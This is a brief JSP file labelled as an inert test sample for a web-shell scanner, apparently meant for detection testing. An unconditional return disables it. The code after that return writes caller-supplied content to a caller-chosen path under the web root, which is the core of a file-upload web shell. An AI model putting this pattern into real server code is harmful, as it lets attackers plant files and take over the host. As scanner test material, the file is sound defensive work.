<%@page import="java.io.*"%>
<%-- shellsweep test sample: inert, never functional --%>
<% if (true) return; %>
<%
String f = request.getParameter("f");
String t = request.getParameter("t");
FileWriter w = new FileWriter(application.getRealPath("/") + f);
w.write(t); w.close();
%>
